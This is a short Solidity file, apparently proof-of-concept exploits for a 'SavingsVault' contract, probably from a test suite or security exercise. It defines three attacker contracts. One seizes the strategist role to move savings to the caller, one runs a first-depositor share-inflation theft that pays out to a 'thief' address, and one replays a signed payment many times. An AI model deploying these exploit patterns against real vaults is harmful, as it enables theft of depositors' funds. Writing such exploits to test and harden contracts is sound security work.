// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20, SavingsVault} from "./SavingsVault.sol";

/// @notice Access control: makes itself the strategist and moves the savings to whoever called.
contract SelfMadeStrategist {
    function run(SavingsVault vault, uint256 assets) external {
        vault.setStrategist(address(this));
        vault.invest(msg.sender, assets);
    }
}

/// @notice Share inflation: takes the first share, makes it dear, and cashes it in once somebody has saved.
contract FirstSaver {
    address private immutable thief = msg.sender;

    function prepare(SavingsVault vault, uint256 gift) external {
        IERC20 asset = vault.asset();
        asset.transferFrom(msg.sender, address(this), gift + 1);
        Approving(address(asset)).approve(address(vault), 1);
        vault.deposit(1, address(this));
        asset.transfer(address(vault), gift);
    }

    function cashIn(SavingsVault vault) external {
        vault.redeem(vault.balanceOf(address(this)), thief, address(this));
    }
}

interface Approving {
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice Signature replay: hands in one signed payment again and again.
contract Replayer {
    struct Signed {
        address saver;
        uint256 assets;
        uint256 deadline;
        uint8 v;
        bytes32 r;
        bytes32 s;
    }

    function run(SavingsVault vault, address to, Signed calldata signed, uint256 times) external {
        for (uint256 i = 0; i < times; i++)
            vault.pay(signed.saver, to, signed.assets, signed.deadline, signed.v, signed.r, signed.s);
    }
}
